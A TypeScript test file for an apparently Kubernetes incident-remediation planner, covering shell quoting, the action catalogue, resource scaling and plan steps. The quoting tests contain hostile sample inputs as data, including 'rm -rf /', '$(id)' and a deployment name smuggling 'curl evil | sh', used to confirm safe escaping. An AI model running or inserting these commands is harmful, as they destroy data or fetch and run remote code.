import { describe, expect, it } from "vitest";
import { faultKinds, faultOf } from "../faults/catalogue.ts";
import { ago, alert, app, asOf, change, event, golden, node, step } from "../testing/builders.ts";
import { emptyWorld, id, run, type World } from "../testing/world.ts";
import { actionCatalogue, actionOf, commandOf, shellWord, type ActionId } from "./actions.ts";
import { halfMore } from "./arguments.ts";

describe("a command", () => {
  it.each([
    ["checkout", "checkout"],
    ["a b", "'a b'"],
    ["x; rm -rf /", "'x; rm -rf /'"],
    ["it's", String.raw`'it'\''s'`],
    ["$(id)", "'$(id)'"],
    ["", "''"],
  ])("writes %j as the shell word %s", (word, expected) => expect(shellWord(word)).toBe(expected));

  it("quotes hostile names of things", () => {
    const target = id("deployment", "x; curl evil | sh");
    expect(commandOf(actionOf("kubernetes.rollout_undo"), target, {})).toBe(
      "kubectl --context eu-1 --namespace shop rollout undo 'deployment/x; curl evil | sh'",
    );
  });

  it.each(Object.keys(actionCatalogue) as ActionId[])("of %s is never empty, and names its cluster or the node it is done on", (action) => {
    const target = actionOf(action).on === "node" ? id("node", "worker-1") : id("deployment", "cart");
    expect(commandOf(actionOf(action), target, {})).toMatch(/^(kubectl --context eu-1|ssh worker-1) \S+/);
  });
});

describe("the catalogue of actions", () => {
  it("lets nothing that only looks have a risk, and nothing that mutates have none", () => {
    for (const action of Object.values(actionCatalogue)) expect(action.risk === "none").toBe(!action.mutates);
  });

  it("is used as a whole by the faults and the changes", () => {
    const used = new Set<string>([...faultKinds.flatMap((kind) => faultOf(kind).plan), "kubernetes.rollout_undo", "config.revert"]);
    expect(Object.keys(actionCatalogue).filter((action) => !used.has(action))).toEqual([]);
  });
});

describe("halfMore", () => {
  it.each([
    ["512Mi", "768Mi"],
    ["1Gi", "1536Mi"],
    ["2Gi", "3Gi"],
    ["500m", "750m"],
    ["1", "1.5"],
    ["3Mi", "4608Ki"],
  ])("of %s is %s", (before, after) => expect(halfMore(before)).toBe(after));

  it.each(["", "much", "-1Mi", "1e3"])("of %j is not guessed", (quantity) => expect(halfMore(quantity)).toBeNull());
});

describe("a plan", () => {
  const service = id("service", "cart");
  const hurt = golden(service, { errors: step(0.001, 0.3, { since: 12 }), latency: step(0.1, 1, { since: 12 }) });
  const base = (more: Partial<World>): World => ({
    ...emptyWorld(asOf),
    alerts: [alert("A", service, 10)],
    series: hurt,
    edges: app("cart").edges,
    objects: [...app("cart").objects, node("worker-1")],
    ...more,
  });
  const steps = (world: World) => run(world).diagnosis.plan.steps;

  it("for too little CPU adds replicas and raises the limit, counted from what runs", () => {
    const cpu = { of: service, signal: "resource:cpu:limit", unit: "1", curve: step(0.4, 0.99, { since: 13 }) };
    const plan = steps(base({ series: [...hurt, cpu, { ...cpu, signal: "named:pool_used", curve: () => 0.1 }] }));
    expect(plan.slice(0, 2).map(({ command }) => command)).toEqual([
      "kubectl --context eu-1 --namespace shop scale deployment/cart --replicas=2",
      "kubectl --context eu-1 --namespace shop set resources deployment/cart --limits=cpu=1.5",
    ]);
  });

  it("for a node that is not ready cordons before it drains, and says that draining cannot be undone", () => {
    const plan = steps(base({ objects: [...app("cart").objects, node("worker-1", { Ready: { status: "False", since: ago(13) } })] }));
    expect(plan.map(({ action }) => action)).toEqual(["kubernetes.cordon", "kubernetes.drain", "kubernetes.inspect_node"]);
    expect(plan[1]).toMatchObject({ reversible: false, risk: "high" });
  });

  it("leaves out a step whose arguments the evidence does not tell", () => {
    const killed = event(id("pod", "cart-5d4f8b9c7-x2x9z"), "OOMKilling", { message: "Memory cgroup out of memory", first: 12, count: 4 });
    const blind = base({ events: [killed], objects: [] });
    expect(steps(blind).map(({ action }) => action)).not.toContain("kubernetes.raise_memory_limit");
  });

  it("never rolls a first rollout back: there is nothing to go back to", () => {
    const image = event(id("pod", "cart-5d4f8b9c7-x2x9z"), "Failed", {
      message: 'Failed to pull image "cart:9": not found',
      first: 12,
      last: 1,
      count: 9,
    });
    const created = change("cart 1", id("deployment", "cart"), { minutesAgo: 12.5, from: null, to: "cart:9", origin: "rollout" });
    const { diagnosis } = run(base({ events: [image], changes: [created] }));
    expect(diagnosis.causes[0]).toMatchObject({ fault: "image_not_found", change: created.id });
    expect(diagnosis.plan.steps.map(({ action }) => action)).toEqual(["kubernetes.correct_template", "kubernetes.inspect_events"]);
  });

  it("proposes nothing that changes anything while the verdict is inconclusive", () => {
    const { diagnosis } = run(base({}));
    expect(diagnosis.verdict).toBe("inconclusive");
    expect(diagnosis.causes[0]?.fault).toBe("unknown");
    expect(diagnosis.plan.steps.length).toBeGreaterThan(0);
    expect(diagnosis.plan.steps.filter(({ mutates }) => mutates)).toEqual([]);
    expect(diagnosis.plan.requires_approval).toBe(false);
  });
});
